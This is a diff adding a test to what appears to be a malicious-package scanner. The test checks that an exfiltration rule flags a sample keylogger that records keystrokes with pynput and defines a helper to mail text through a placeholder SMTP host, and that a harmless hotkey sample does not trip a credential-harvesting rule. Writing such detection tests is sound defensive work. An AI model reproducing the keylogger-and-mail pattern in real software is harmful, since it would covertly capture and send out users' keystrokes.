@@ -554,3 +554,24 @@ def test_a_webhook_relay_inbox_is_an_exfiltration_endpoint(engine: Engine) -> No
     docs = "import requests\n\nrequests.get('https://webhookrelay.com/pricing')\n"
     archive = sdist({"tidy_strings/r.py": docs})
     assert run_rule(engine, suspicious_url_references_rule, archive) is None
+
+
+def test_keystrokes_recorded_and_mailed_are_exfiltration(engine: Engine) -> None:
+    code = (
+        "import smtplib\nfrom pynput import keyboard\n\n"
+        "keys = []\n\n"
+        "def on_press(key):\n    keys.append(str(key))\n\n"
+        "def mail(text):\n"
+        "    with smtplib.SMTP_SSL('smtp.example.net', 465) as s:\n"
+        "        s.sendmail('a@example.net', 'b@example.net', text)\n\n"
+        "with keyboard.Listener(on_press=on_press) as listener:\n    listener.join()\n"
+    )
+    assert run_rule(engine, data_exfiltration_rule, sdist({"tidy_strings/k.py": code}))
+    hotkey = (
+        "from pynput import keyboard\n\n"
+        "def on_activate():\n    print('hotkey')\n\n"
+        "keyboard.GlobalHotKeys({'<ctrl>+<alt>+h': on_activate}).start()\n"
+    )
+    assert (
+        run_rule(engine, credential_harvesting_rule, sdist({"tidy_strings/h.py": hotkey})) is None
+    )
